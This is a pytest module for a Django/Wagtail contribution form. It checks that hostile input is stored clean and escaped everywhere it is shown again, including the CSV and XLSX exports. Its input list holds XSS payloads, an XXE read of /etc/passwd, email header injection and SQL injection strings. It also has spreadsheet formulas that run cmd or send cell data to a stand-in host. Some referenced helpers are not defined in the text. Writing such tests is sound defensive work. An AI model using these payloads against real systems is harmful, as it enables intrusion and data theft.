"""Hostile input through the contribution form, and everywhere it comes out again.

Nearly two hundred inputs a resident (or a script) can send (``HOSTILE``): XSS
payloads, attribute breakouts, template syntax, HTML entities, NUL and every
other control character, broken and overlong UTF-8, lone surrogates,
bidirectional overrides, zero-width and combining characters, astral
characters, oversize text, header injection in the name and the email address,
spreadsheet formulas, SQL and path traversal.

- Each is sent to an open dialog's page as the text, the name and the email
  address of a contribution (urlencoded; raw and percent-encoded bytes where
  the input is not UTF-8; multipart too for control characters): never a
  server error; whatever is stored is free of control characters; a form shown
  again holds the input escaped, never as markup. A closed dialog gives the
  text back escaped.
- Every input the form accepts as a text or a name (``PUBLISHED``) is sent
  through the page, published and replied to (and the reply signed) with the
  same input, then checked, input by input, on the public page, in the admin
  listing and on the contribution's admin page, in the reply email, and in the
  CSV and XLSX exports.
- A line break in the name or the email address is refused, so it never
  reaches an email header.

The dialogs and the published contributions are made once for the module,
inside a transaction that is rolled back at its end (each test still runs in
its own savepoint): building them per test would take minutes.
"""

import csv
import datetime
import email
import email.policy
import io
import re
import unicodedata
import zipfile
from collections import Counter
from types import SimpleNamespace
from urllib.parse import quote_from_bytes
from xml.etree import ElementTree

import openpyxl
import pytest
from bs4 import BeautifulSoup
from django.contrib.auth import get_user_model
from django.core import mail
from django.db import transaction
from django.template.defaultfilters import linebreaks_filter
from django.template.defaultfilters import linebreaksbr as linebreaksbr_filter
from django.test import Client, TestCase, override_settings
from django.utils.html import escape
from django.utils.text import Truncator
from openpyxl.utils import column_index_from_string

from tests.factories import make_dialog, make_index
from tests.test_permissions import inbox_url
from wagtail_dialog.admin.inbox_columns import ContributionColumn
from wagtail_dialog.contributions import Contribution, exports, moderation
from wagtail_dialog.contributions.forms import ContributionForm, shown

#: Every test runs in its own savepoint (and the database is set up even when
#: only tests that use ``world`` alone are selected).
pytestmark = pytest.mark.django_db

# --- The inputs -------------------------------------------------------------

#: The dialogs here take up to this many characters: the 10,000-character
#: inputs are stored, the 100,000-character ones are refused as too long.
MAX_LENGTH = 20_000

#: Bytes are sent as they are (raw, not valid UTF-8) and percent-encoded.
#: None of them contains ``&``, ``=``, ``+`` or ``%``, so the raw body still
#: splits into the right fields.
_BYTES = {
    "utf8-surrogate-hi": b"\xed\xa0\x80",
    "utf8-surrogate-lo": b"a\xed\xbf\xbfb",
    "utf8-surrogate-pair": b"\xed\xa0\xbd\xed\xb8\x80",
    "utf8-surrogate-xss": b"<script>\xed\xa0\x80</script>",
    "utf8-overlong-lt": b"\xc0\xbcscript\xc0\xbe",
    "utf8-overlong-lt3": b"\xe0\x80\xbcscript\xe0\x80\xbe",
    "utf8-overlong-lt4": b"\xf0\x80\x80\xbcscript",
    "utf8-overlong-nul": b"a\xc0\x80b",
    "utf8-overlong-slash": b"..\xc0\xaf..\xc0\xafetc",
    "utf8-lone-cont": b"\x80",
    "utf8-lone-cont2": b"abc\xbf",
    "utf8-trunc-3": b"\xe2\x82",
    "utf8-trunc-4": b"\xf0\x9f\x98",
    "utf8-ff": b"\xff",
    "utf8-bom16": b"\xff\xfeA\x00",
    "utf8-5byte": b"\xf8\x88\x80\x80\x80",
    "utf8-6byte": b"\xfc\x84\x80\x80\x80\x80",
    "utf8-above-max": b"\xf4\x90\x80\x80",
    "utf8-latin1": "Fler bänkar".encode("latin-1"),
    "utf8-mixed-xss": b"ok \xc3( <img src=x onerror=alert(1)>",
}

_STRINGS = {
    # Classic XSS and attribute breakouts.
    "xss-script": "<script>alert(1)</script>",
    "xss-script-upper": "<SCRIPT SRC=//x.example/x.js></SCRIPT>",
    "xss-img": "<img src=x onerror=alert(1)>",
    "xss-img-entities": "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "xss-svg": "<svg onload=alert(1)>",
    "xss-svg-script": "<svg><script>alert(1)</script></svg>",
    "xss-js-url": "javascript:alert(1)",
    "xss-js-link": '<a href="javascript:alert(1)">klicka</a>',
    "xss-js-entity": '<a href="&#106;avascript:alert(1)">x</a>',
    "xss-vbscript": "vbscript:msgbox(1)",
    "xss-data-url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "break-dq": '"><script>alert(1)</script>',
    "break-sq": "'><script>alert(1)</script>",
    "break-dq-attr": '" onmouseover="alert(1)',
    "break-sq-attr": "' onfocus='alert(1)' autofocus='",
    "break-bt": "`><img src=x onerror=alert(1)>",
    "break-textarea": "</textarea><script>alert(1)</script>",
    "break-title": "</title><script>alert(1)</script>",
    "break-comment": "--><script>alert(1)</script><!--",
    "xss-iframe": "<iframe src=javascript:alert(1)></iframe>",
    "xss-body": "<body onload=alert(1)>",
    "xss-details": "<details open ontoggle=alert(1)>",
    "xss-mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "xss-noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "xss-comment": "<!--<img src=x onerror=alert(1)>-->",
    "xss-cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "xss-style": "<style>*{display:none}</style>",
    "xss-style-attr": '<div style="background:url(javascript:alert(1))">x</div>',
    "xss-meta": "<meta http-equiv=refresh content=0;url=//x.example>",
    "xss-base": "<base href=//x.example/>",
    "xss-form": "<form action=//x.example><button>Skicka</button></form>",
    "xss-input": "<input autofocus onfocus=alert(1)>",
    "xss-object": "<object data=javascript:alert(1)>",
    "xss-embed": "<embed src=javascript:alert(1)>",
    "xss-link": "<link rel=stylesheet href=//x.example/x.css>",
    "xss-custom-tag": "<x onclick=alert(1)>klicka</x>",
    "xss-nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "xss-multiline": "\"'><img src=x\nonerror=alert(1)>\n\n<script>\nalert(1)\n</script>",
    "xss-pct": "%3Cscript%3Ealert(1)%3C/script%3E",
    "xss-js-escape": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "xss-fullwidth": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "xss-xxe": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "xss-markdown": "[klicka](javascript:alert(1)) ![x](http://x.example/x.png)",
    "html-specials": "<>&\"'`",
    "html-entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "html-entities-mix": "&amp;&lt;&gt;&quot;&#39;&#x3C;&#60 &nbsp;",
    "html-lone-lt": "a < b > c & d",
    # Template injection: none of it is ever evaluated.
    "tpl-var": "{{ 7|add:7 }}",
    "tpl-tag": "{% load static %}{% debug %}",
    "tpl-settings": "{{ settings.SECRET_KEY }}{{ request.META }}",
    "tpl-csrf": "{% csrf_token %}",
    "tpl-comment": "{# hidden #}",
    "tpl-dollar": "${7*7} #{7*7} <%= 7*7 %>",
    "tpl-js": "`${alert(1)}`",
    "fmt-percent": "%s%s%s%n%(reference)s",
    "fmt-braces": "{0}{1}{reference}",
    # Line breaks and header injection.
    "crlf-bcc": "a\r\nBcc: x@example.com",
    "lf-bcc": "a\nBcc: x@example.com",
    "cr-bcc": "a\rBcc: x@example.com",
    "crlf-body": "Anna\r\n\r\n<script>alert(1)</script>",
    "crlf-email": "anna@example.com\r\nBcc: x@example.com",
    "lf-email": "anna@example.com\nCc: x@example.com",
    "pct-crlf": "anna@example.com%0d%0aBcc:x@example.com",
    "encoded-word": "=?utf-8?q?=0D=0ABcc:_x@example.com?=",
    "ls-bcc": "a\u2028Bcc: x@example.com",
    "ps-bcc": "a\u2029Bcc: x@example.com",
    "nel-bcc": "a\x85Bcc: x@example.com",
    "email-list": "x@example.com>, <y@example.com",
    "email-display": '"Anna" <anna@example.com>',
    "email-quoted": '"a\\"b"@example.com',
    "email-idn": "anna@exämple.se",
    # Control characters.
    "nul": "\x00",
    "nul-xss": "\x00<script>alert(1)</script>",
    "ansi": "\x1b[31mröd\x1b[0m",
    "c1-csi": "a\x9bb",
    # Unicode that is not a control character.
    "rlo": "\u202egnp.exe",
    "rlo-mixed": "abc\u202edef\u202cghi",
    "bidi-isolates": "\u2066a\u2067b\u2068c\u2069",
    "zero-width": "a\u200bb\u200cc\u200dd\u2060e",
    "bom": "\ufeffFler bänkar",
    "combining": "e" + "\u0301" * 50,
    "zalgo": "".join(char + "\u0336\u0337\u0338\u0489" for char in "zalgo"),
    "nfd": "Fler ba\u0308nkar vid a\u030awn",
    "emoji": "\U0001f600\U0001f44d\U0001f3fd",
    "emoji-zwj": "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f3\ufe0f\u200d\U0001f308",
    "emoji-flag": "\U0001f1f8\U0001f1ea",
    "astral-math": "\U0001d54f\U0001d538\U0001d54a\U0001d54a",
    "astral-cjk": "\U0002070e\U00020731\U00020779",
    "replacement-char": "a\ufffdb",
    "noncharacters": "\ufffe\uffff",
    "nonchar-fdd0": "a\ufdd0b",
    "private-use": "\ue000\U0010fffd",
    "homoglyph": "\u0440\u0430\u0443\u0440\u0430l.com",
    "case-folding": "\u0130stanbul \u01c5 \u00df \ufb03",
    "ideographic-space": "\u3000",
    "nbsp-only": "\u00a0\u00a0",
    # Spreadsheet formulas.
    "formula-hyperlink": '=HYPERLINK("http://x.example","klicka")',
    "formula-dde": "+cmd|'/C calc'!A0",
    "formula-minus": "-2+3",
    "formula-at": "@SUM(1)",
    "formula-tab": "\t=1+2",
    "formula-cr": "\r=1+2",
    "formula-lf": "\n=1+2",
    "formula-space": " =1+1",
    "formula-nbsp": "\u00a0=1+1",
    "formula-plain": "=1+1",
    "formula-cmd": "=cmd|' /C notepad'!'A1'",
    "formula-importxml": '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")',
    "formula-webservice": '=WEBSERVICE("http://x.example")',
    "formula-dde2": '=DDE("cmd";"/C calc";"!A0")',
    "formula-at-at": "@@=1",
    "formula-phone": "+46 70 123 45 67",
    "formula-dash": "-",
    "formula-eq": "=",
    "formula-fullwidth": "\uff1d1+1",
    "formula-second-line": "ok\n=1+1",
    "formula-nonchar": "\ufffe=1+1",  # XLSX drops U+FFFE: the quote must still come first
    "formula-bom": "\ufeff=1+1",
    "formula-zwsp": "\u200b=1+1",
    # SQL, path traversal and other oddities.
    "sql-drop": "'; DROP TABLE wagtail_dialog_contribution; --",
    "sql-or": '" OR 1=1 --',
    "sql-quote": "1' OR '1'='1",
    "sql-union": "%' AND 1=0 UNION SELECT NULL, NULL --",
    "sql-sleep": "\\'; SELECT pg_sleep(10); --",
    "path-unix": "../../../../etc/passwd",
    "path-windows": "..\\..\\windows\\win.ini",
    "path-nul": "/etc/passwd%00.png",
    "path-file-url": "file:///etc/passwd",
    "literals": "null undefined None NaN 1e309 -0",
    # Oversize.
    "long-10k": "x" * 10_000,
    "long-100k": "x" * 100_000,
    "long-word": "a" * 5_000,
    "long-url": "https://x.example/" + "a" * 9_000,
    "long-script": "<script>" * 2_000,
    "long-nfd": "a\u030a" * 10_000,
    "long-emoji": "\U0001f600" * 10_000,
    "long-lines": "\n" * 5_000 + "x",
    "long-name": "N" * 101,
    "long-email": "a" * 250 + "@example.com",
}

#: Every control character (C0 and DEL): tab and line feed are text, the rest are not.
_CONTROLS = {f"ctl-{code:02x}": f"a{chr(code)}b" for code in [*range(0x20), 0x7F]}

#: (id, value) for pytest: value is a str, or bytes that are not valid UTF-8.
HOSTILE = [*_STRINGS.items(), *_CONTROLS.items(), *_BYTES.items()]

assert len(HOSTILE) >= 100 and len({key for key, _ in HOSTILE}) == len(HOSTILE)
assert len({value for _, value in HOSTILE}) == len(HOSTILE)

# --- Sending and looking -----------------------------------------------------

AUTHOR = "forfattare@example.com"
SAFE_TEXT = "Fler bänkar, tack."
#: What a spreadsheet cell may start with to be run as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
LINE_BREAKS = "\r\n\v\f\x1c\x1d\x1e\x85\u2028\u2029"


def _encode(value, raw):
    if isinstance(value, bytes):
        return value if raw else quote_from_bytes(value).encode("ascii")
    return quote_from_bytes(value.encode("utf-8")).encode("ascii")


def form_fields(field, value):
    """A contribution that is fine but for ``value`` in ``field``."""
    fields = {"text": SAFE_TEXT, "consent": "on", "website": ""}
    if field == "email":
        fields["notify"] = "on"
    fields[field] = value
    return fields


def post_urlencoded(client, dialog, fields, raw=False):
    body = b"&".join(key.encode() + b"=" + _encode(value, raw) for key, value in fields.items())
    return client.generic("POST", dialog.url, body, content_type="application/x-www-form-urlencoded")


def soup(response_or_html):
    html = response_or_html if isinstance(response_or_html, str) else response_or_html.content.decode()
    return BeautifulSoup(html, "html.parser")


def squash(text):
    """``text`` without any whitespace: compares text content however markup broke its lines."""
    return "".join(text.split())


def cleaned(value, multiline):
    """What the form promises to store for ``value``: NFC, line breaks as LF, trimmed."""
    if multiline:
        value = value.replace("\r\n", "\n").replace("\r", "\n")
    return unicodedata.normalize("NFC", value).strip()


def _looks_like_formula(value):
    """A formula start, once invisible formatting characters (category Cf) in front are skipped."""
    visible = value
    while visible and unicodedata.category(visible[0]) == "Cf":
        visible = visible[1:]
    return visible.startswith(FORMULA_STARTS)


def neutralised(value):
    """What a spreadsheet cell must hold for ``value``: a quote before a formula."""
    return "'" + value if _looks_like_formula(value) else value


_LIMITS = SimpleNamespace(contribution_max_length=MAX_LENGTH)


def accepted_as(field, value):
    """What the contribution form stores for ``value`` in ``field``; None when it
    refuses it or it comes out empty. (The form needs no database.)"""
    if isinstance(value, bytes):
        return None
    form = ContributionForm(form_fields(field, value), dialog=_LIMITS)
    return (form.cleaned_data[field] or None) if form.is_valid() else None


#: The inputs the form accepts as the text or the name of a contribution.
PUBLISHED = [(key, value) for key, value in HOSTILE if accepted_as("text", value) or accepted_as("name", value)]
PUBLISHED_IDS = [key for key, _ in PUBLISHED]
assert len(PUBLISHED) >= 100, len(PUBLISHED)


def assert_clean_contribution(contribution, label):
    """A stored contribution holds no control characters and no broken text, as the form promises."""
    # Tabs and line feeds are text in the contribution; the one-line fields allow no control character.
    for name, allowed in (("text", {"\n", "\t"}), ("name", set()), ("email", set())):
        value = getattr(contribution, name)
        bad = [char for char in value if unicodedata.category(char) in ("Cc", "Cs") and char not in allowed]
        assert not bad, f"{label}: {name} stored with control characters {bad!r}"
        assert "\ufffd" not in value, f"{label}: {name} stored with U+FFFD"
        assert value == cleaned(value, multiline=name == "text"), f"{label}: {name} not normalised"
    for name in ("name", "email"):
        assert not any(char in LINE_BREAKS for char in getattr(contribution, name)), f"{label}: {name} line break"


#: Elements only the template may bring; their number must not change with the input.
WATCHED_TAGS = (
    "script", "style", "link", "meta", "base", "img", "svg", "math", "iframe", "object", "embed", "form",
    "input", "textarea", "button", "select", "details", "noscript", "body", "head", "title", "x", "a",
)  # fmt: skip
URL_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "xlink:href", "srcset", "poster")


def markup_profile(page):
    """How many of each watched element ``page`` has."""
    counts = Counter(tag.name for tag in page.find_all(True) if tag.name in WATCHED_TAGS)
    return {name: counts.get(name, 0) for name in WATCHED_TAGS}


def assert_no_injected_markup(page, baseline, where):
    """``page`` has no markup beyond its template's: the watched elements as in
    ``baseline`` (a profile of the same template), no event handler attributes,
    no script URLs."""
    profile = markup_profile(page)
    differing = {name: (profile[name], baseline[name]) for name in WATCHED_TAGS if profile[name] != baseline[name]}
    assert not differing, f"{where}: elements (found, expected) {differing}"
    for tag in page.find_all(True):
        handlers = [name for name in tag.attrs if name.lower().startswith("on")]
        assert not handlers, f"{where}: <{tag.name}> has event handler attributes {handlers}"
        for name in URL_ATTRIBUTES:
            value = tag.get(name)
            if isinstance(value, str):
                scheme = "".join(value.split()).lower()
                assert not scheme.startswith(("javascript:", "vbscript:", "data:")), f"{where}: {name}={value!r}"


RAW_TAGS = (
    "script", "svg", "img", "iframe", "math", "object", "embed", "base", "style", "details", "x ", "body",
    "input", "textarea", "form", "button", "select", "meta", "link", "noscript", "title", "mglyph", "table",
)  # fmt: skip


def raw_markup(html):
    """How often the raw HTML opens each tag that injected markup would bring."""
    lowered = html.lower()
    return {tag: lowered.count("<" + tag) for tag in RAW_TAGS}


def tag_shape(element, skip=("br",)):
    """Each element's name and attribute names, counted: the markup without the text."""
    return Counter((tag.name, tuple(sorted(tag.attrs))) for tag in element.find_all(True) if tag.name not in skip)


# --- Dialogs and published contributions, once for the module -----------------


def _published_contribution(client, dialog, superuser, key, value, with_name=True):
    """``value`` as the text and/or name (whichever the form accepts) of a
    contribution sent through the page, published, replied to and signed with ``value``."""
    text, name = accepted_as("text", value), with_name and accepted_as("name", value)
    fields = {
        **form_fields("text", value if text else f"Synpunkt {key}"),
        "name": value if name else "",
        "email": AUTHOR,
        "notify": "on",
    }
    # Only the reply's email carries the input: the emails on receiving and publishing
    # (checked on their own below) are left unsent here, which saves seconds.
    with TestCase.captureOnCommitCallbacks(execute=False):
        response = post_urlencoded(client, dialog, fields)
        assert response.status_code == 302, f"{key}: {response.status_code}"
        contribution = Contribution.objects.order_by("-pk").first()
        moderation.approve(contribution, superuser)
    # Signed with the input too; an input that is only whitespace there is signed plainly, so that
    # every contribution has the same markup as the ordinary one it is compared with.
    signature = value[:150] if value[:150].strip() else "Kommunen"
    with TestCase.captureOnCommitCallbacks(execute=True):
        moderation.reply(contribution, superuser, value if value.strip() else "Svar", signature=signature)
    contribution.refresh_from_db()
    return contribution


def _build_world():
    today = datetime.date.today()
    index = make_index(title="Fientliga indata", slug="fientliga-indata")
    world = SimpleNamespace()
    world.open = make_dialog(index, title="Öppen", slug="oppen", max_contribution_length=MAX_LENGTH)
    world.closed = make_dialog(
        index,
        title="Stängd",
        slug="stangd",
        opens_on=today - datetime.timedelta(days=30),
        closes_on=today - datetime.timedelta(days=1),
        max_contribution_length=MAX_LENGTH,
    )
    world.dialog = make_dialog(index, title="Publicerad", slug="publicerad", max_contribution_length=MAX_LENGTH)
    world.superuser = get_user_model().objects.create_superuser("fientlig", "fientlig@example.com", "x")

    resident = Client()
    world.form_html = resident.get(world.open.url).content.decode()
    world.form_profile = markup_profile(soup(world.form_html))
    refused = post_urlencoded(resident, world.closed, form_fields("text", SAFE_TEXT))
    assert refused.status_code == 403
    world.closed_html = refused.content.decode()

    sent_before = len(mail.outbox)
    with override_settings(WAGTAIL_DIALOG_RATE_LIMIT=None):
        world.contributions = {
            key: _published_contribution(resident, world.dialog, world.superuser, key, value)
            for key, value in PUBLISHED
        }
        # An ordinary contribution in the same state: what the templates make of plain text.
        world.baseline = _published_contribution(resident, world.dialog, world.superuser, "baseline", SAFE_TEXT)
        # And one without a name: the inbox's meta line has a part less.
        world.anonymous_baseline = _published_contribution(
            resident, world.dialog, world.superuser, "baseline-anonymous", SAFE_TEXT, with_name=False
        )
    world.emails = mail.outbox[sent_before:]

    with override_settings(WAGTAIL_DIALOG_CONTRIBUTIONS_PER_PAGE=1000):
        response = Client().get(world.dialog.url)
    assert response.status_code == 200
    world.public_html = response.content.decode()
    world.public_page = soup(world.public_html)
    world.articles = {
        heading["id"]: (heading, heading.find_parent("article"))
        for heading in world.public_page.select('[id^="wd-contribution-"]')
        if heading.find_parent("article") is not None
    }

    world.admin = Client(HTTP_ACCEPT_LANGUAGE="en")
    world.admin.force_login(world.superuser)
    world.listing_pages, world.rows, number = [], {}, 1
    while len(world.rows) < len(world.contributions) + 2:
        response = world.admin.get(inbox_url("index"), {"dialog": world.dialog.pk, "p": number})
        assert response.status_code == 200, f"listing page {number}: {response.status_code}"
        html = response.content.decode()
        # Only the listing's own table is parsed (the page has others, e.g. the keyboard shortcuts).
        first = html.find('id="contribution_')
        assert first >= 0, f"listing page {number} is empty; {len(world.rows)} rows found"
        body = html[html.rindex("<tbody", 0, first) : html.index("</tbody>", first) + len("</tbody>")]
        titles = soup(f"<table>{body}</table>").select('[id^="contribution_"][id$="_title"]')
        for title in titles:
            world.rows[title["id"]] = title.find_parent("tr")
        world.listing_pages.append(html)
        number += 1

    world.exports = {}
    for export_format in ("csv", "xlsx"):
        response = world.admin.get(inbox_url("index"), {"export": export_format, "dialog": world.dialog.pk})
        assert response.status_code == 200, f"{export_format} export: {response.status_code}"
        world.exports[export_format] = b"".join(response.streaming_content)
    world.columns = [column.key for column in exports.columns(Contribution, personal_data=True)]
    world.csv_rows = _csv_rows(world.exports["csv"])
    world.xlsx_rows = xlsx_sheet_rows(world.exports["xlsx"])

    response = world.admin.get(inbox_url("edit", world.baseline.pk))
    assert response.status_code == 200
    world.detail_html = response.content.decode()
    assert "Fler bänkar, tack." in world.detail_html
    world.detail_tags, world.detail_markup = tags_opened(world.detail_html), raw_markup(world.detail_html)
    world.form_markup = raw_markup(world.form_html)
    baseline_email = soup(_html_part(_reply_email(world, world.baseline)))
    world.email_shape, world.email_markup = tag_shape(baseline_email), markup_profile(baseline_email)
    return world


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker):
    with django_db_blocker.unblock():
        atomic = transaction.atomic()
        atomic.__enter__()
        try:
            yield _build_world()
        finally:
            transaction.set_rollback(True)
            atomic.__exit__(None, None, None)


# --- Never a server error ----------------------------------------------------


def _variants(value):
    """(label, send) for every way ``value`` is sent: as the text, the name and
    the email address at once. The form checks and shows back every field, so
    one refused post covers all three; the inputs the form accepts as a text or
    a name are also sent that way with a valid email address, when the module's
    contributions are published (``world``)."""
    fields = {"text": value, "name": value, "email": value, "notify": "on", "consent": "on", "website": ""}
    if isinstance(value, bytes):
        return [
            ("raw bytes", lambda client, dialog: post_urlencoded(client, dialog, fields, raw=True)),
            ("percent-encoded", lambda client, dialog: post_urlencoded(client, dialog, fields)),
        ]
    variants = [("urlencoded", lambda client, dialog: post_urlencoded(client, dialog, fields))]
    if any(unicodedata.category(char) == "Cc" for char in value):
        # Control characters through Django's multipart parser too.
        variants.append(("multipart", lambda client, dialog: client.post(dialog.url, fields)))
    return variants


#: Where the form shows a value again: the textarea's content, the inputs' value attributes.
_SHOWN_AGAIN = {
    "text": '>\n{}</textarea>',
    "name": 'id="id_name" value="{}"',
    "email": 'id="id_email" value="{}"',
}


@override_settings(WAGTAIL_DIALOG_RATE_LIMIT=None)
@pytest.mark.parametrize("value", [value for _, value in HOSTILE], ids=[key for key, _ in HOSTILE])
def test_hostile_input_never_gives_a_server_error(client, world, value):
    """Sent as the text, the name and the email address: stored clean, or refused
    with the form shown again and the input in it escaped, never as markup."""
    for label, send in _variants(value):
        count = Contribution.objects.count()
        response = send(client, world.open)
        assert response.status_code < 500, f"{label}: server error {response.status_code}"
        assert response.status_code in (200, 302, 400), f"{label}: {response.status_code}"
        if response.status_code == 302:
            assert Contribution.objects.count() == count + 1, f"{label}: redirected but nothing stored"
            contribution = Contribution.objects.order_by("-pk").first()
            assert_clean_contribution(contribution, label)
            for field in ("text", "name", "email"):
                stored, expected = getattr(contribution, field), cleaned(value, multiline=field == "text")
                assert stored == expected, f"{label}: {field} stored as {stored[:80]!r}"
            continue
        assert Contribution.objects.count() == count, f"{label}: refused ({response.status_code}) but stored"
        if response.status_code == 400:
            continue
        html = response.content.decode()
        assert 'id="wd-error-summary"' in html, f"{label}: refused without an error"
        assert raw_markup(html) == world.form_markup, f"{label}: elements differ from the form's"
        # Control characters come back as U+FFFD: visible to the resident, and valid HTML.
        assert "\x00" not in html, f"{label}: NUL in the page"
        if isinstance(value, str):
            for field, where in _SHOWN_AGAIN.items():
                assert where.format(escape(shown(value))) in html, f"{label}: {field} not shown again, escaped"
            if escape(value) != value:
                assert value not in html, f"{label}: shown again unescaped"


@override_settings(WAGTAIL_DIALOG_RATE_LIMIT=None)
def test_a_closed_dialog_gives_every_input_back_escaped(client, world):
    """A closed dialog refuses the text and gives it back to keep, escaped: all the inputs at once."""
    inputs = [value for _, value in HOSTILE if isinstance(value, str) and value.strip()]
    text = "\n\n".join(inputs)
    response = post_urlencoded(client, world.closed, form_fields("text", text))
    assert response.status_code == 403
    html = response.content.decode()
    assert raw_markup(html) == raw_markup(world.closed_html), "elements differ from the refusal's"
    assert linebreaks_filter(shown(text), autoescape=True) in html, "not given back, escaped"
    assert "\x00" not in html
    # (An input with & alone is left out: escaping another input may well have made it.)
    unescaped = [
        key for key, value in HOSTILE if isinstance(value, str) and re.search("[<>\"']", value) and value in html
    ]
    assert not unescaped, f"given back unescaped: {unescaped}"
    # Bytes that are not UTF-8, raw in the body: given back as text with the broken bytes marked.
    broken = b"\n".join(value for _, value in HOSTILE if isinstance(value, bytes))
    response = post_urlencoded(client, world.closed, form_fields("text", broken), raw=True)
    assert response.status_code == 403
    html = response.content.decode()
    assert raw_markup(html) == raw_markup(world.closed_html), "elements differ from the refusal's"
    assert "&lt;script&gt;" in html and "\ufffd" in html
    assert Contribution.objects.filter(dialog=world.closed).count() == 0


# --- The public page -----------------------------------------------------------

ARTICLE_TAGS = {"article", "h3", "dl", "div", "dt", "dd", "time", "p", "br", "h4"}
ARTICLE_ATTRIBUTES = {"class", "id", "aria-labelledby", "datetime"}


def _article(world, contribution):
    found = world.articles.get(f"wd-contribution-{contribution.pk}")
    assert found is not None, "not on the page"
    return found


def test_the_public_page_has_no_markup_from_the_inputs(world):
    page = world.public_page
    # The page has no script, style or inline SVG of its own: any would be injected.
    assert not page.select("script, style, svg, img, iframe, object, embed, math, base, x")
    # Its own folds are the background's three and the privacy notice's, and nothing else opens or closes.
    folds = {"wd-ladder": ["wd-section", "wd-background"], "wd-who": ["wd-section", "wd-background"],
             "wd-gate": ["wd-section", "wd-background"], "wd-privacy-more": ["wd-privacy-notice"]}
    assert {details.get("id") for details in page.select("details")} <= set(folds)
    assert all(details.parent.get("class") == folds[details["id"]] for details in page.select("details"))
    assert_no_injected_markup(page, world.form_profile, "public page")
    assert raw_markup(world.public_html) == raw_markup(world.form_html)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in world.public_html
    assert len(page.select("article.wd-contribution")) == len(world.contributions) + 2


def check_public_page(world, contribution):
    heading, article = _article(world, contribution)
    tags = {tag.name for tag in article.find_all(True)}
    assert tags <= ARTICLE_TAGS, f"unexpected elements {tags - ARTICLE_TAGS}"
    attributes = {name for tag in article.find_all(True) for name in tag.attrs}
    assert attributes <= ARTICLE_ATTRIBUTES, f"unexpected attributes {attributes - ARTICLE_ATTRIBUTES}"
    # linebreaks makes a paragraph per block of text: compare the rest with an ordinary contribution.
    assert tag_shape(article, skip=("br", "p")) == tag_shape(_article(world, world.baseline)[1], skip=("br", "p"))
    if contribution.name:
        assert squash(heading.get_text()) == squash(contribution.name)
    assert squash(article.select_one(".wd-contribution__text").get_text()) == squash(contribution.text)
    assert squash(article.select_one(".wd-reply__text").get_text()) == squash(contribution.reply)
    assert squash(article.select_one(".wd-reply__meta").get_text()).startswith(squash(contribution.reply_signature))


# --- The admin -----------------------------------------------------------------


def test_the_admin_listing_has_no_markup_from_the_inputs(world):
    profiles = []
    for number, html in enumerate(world.listing_pages, start=1):
        page = soup(html)
        for row in page.select("tbody tr"):
            row.decompose()  # rows are compared one by one below
        assert_no_injected_markup(page, markup_profile(page), f"listing page {number}")
        profiles.append((markup_profile(page), raw_markup(html)["script"]))
    assert all(profile == profiles[0] for profile in profiles), "listing pages differ outside their rows"


def check_admin_listing(world, contribution):
    row = world.rows[f"contribution_{contribution.pk}_title"]
    ordinary = world.rows[f"contribution_{(world.baseline if contribution.name else world.anonymous_baseline).pk}_title"]
    assert tag_shape(row) == tag_shape(ordinary), "the row's markup differs from an ordinary row's"
    assert_no_injected_markup(row, markup_profile(ordinary), "row")
    text = squash(row.get_text())
    assert squash(Truncator(contribution.text).chars(ContributionColumn.excerpt_length)) in text
    assert squash(contribution.name) in text and AUTHOR in text


def tags_opened(html):
    """How many tags ``html`` opens or closes, leaving out the <br> that line breaks become."""
    return html.count("<") - html.count("<br>")


def check_admin_page(world, contribution):
    """Checked on the raw HTML (parsing 130 admin pages would take long): every
    value appears escaped where the template puts it, never raw, and the page
    has exactly the tags of an ordinary contribution's page."""
    response = world.admin.get(inbox_url("edit", contribution.pk))
    assert response.status_code == 200
    html = response.content.decode()
    assert tags_opened(html) == world.detail_tags, "tags differ from an ordinary contribution's page"
    assert raw_markup(html) == world.detail_markup, "elements differ from an ordinary contribution's page"
    expected = {
        "text": f"<p>{linebreaksbr_filter(contribution.text, autoescape=True)}</p>",
        "name": f"<dd>{escape(contribution.name)}</dd>" if contribution.name else None,
        "email": f"<dd>{escape(contribution.email)}</dd>",
        "reply": f">\n{escape(contribution.reply)}</textarea>",
        "reply_signature": f'value="{escape(contribution.reply_signature)}"',
    }
    for field, fragment in expected.items():
        value = getattr(contribution, field)
        if fragment:
            assert fragment in html, f"{field} is not shown escaped"
        if escape(value) != value:
            assert value not in html, f"{field} is shown unescaped"


# --- The author's emails ----------------------------------------------------------

#: The headers an author's email has; any other was injected.
# List-Unsubscribe: every email to an author can be stopped from the mail program too.
EMAIL_HEADERS = {"content-type", "mime-version", "subject", "from", "to", "date", "message-id", "list-unsubscribe"}


def _html_part(message):
    ((html, mimetype),) = message.alternatives
    assert mimetype == "text/html"
    return html


def assert_only_the_author_is_addressed(message):
    """The email goes to the author alone, with no header but its own, and no markup in its HTML."""
    assert message.to == [AUTHOR] and not message.cc and not message.bcc
    assert message.recipients() == [AUTHOR]
    assert not any(char in message.subject for char in LINE_BREAKS)
    parsed = email.message_from_bytes(message.message().as_bytes(), policy=email.policy.default)
    names = {name.lower() for name in parsed.keys()}
    assert names <= EMAIL_HEADERS, f"injected headers {names - EMAIL_HEADERS}"
    assert parsed["To"] == AUTHOR and parsed["Subject"] == message.subject
    assert re.fullmatch(r"<https?://[^\s<>]+/unsubscribe/[^\s<>/]+/>", str(parsed["List-Unsubscribe"]).strip())
    assert not parsed.get_all("Bcc") and not parsed.get_all("Cc")
    page = soup(_html_part(message))
    assert_no_injected_markup(page, markup_profile(page), message.subject)


